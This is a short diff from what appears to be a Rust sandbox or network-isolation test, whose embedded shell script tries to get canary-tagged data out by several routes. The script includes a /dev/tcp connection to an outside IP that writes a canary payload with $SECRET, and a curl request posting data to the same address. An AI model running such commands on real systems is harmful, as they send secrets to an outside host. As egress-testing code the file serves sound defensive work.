@@ -20,7 +20,7 @@ const WORD: &str = "canary-7c1e-";
 
 /// Tries to leave with all of them, in every way that has a name in it. Told: where the probes are, then the word.
 const SCRIPT: &str = r#"
-read -r line; w=$1$2; : >"/tmp/${w}file"
+read -r line; w=$1$2; { : >"/tmp/${w}file"; } 2>/dev/null
 "$0/unix_workspace" "WORKSPACE=/tmp/${w}socket"
 { exec 9<>"/dev/tcp/45.79.0.1/443" && echo "${w}payload $line $SECRET" >&9; } 2>/dev/null
 curl --silent --noproxy '*' --max-time 2 "http://45.79.0.1/?q=${w}query" --data "${w}payload" >/dev/null 2>&1
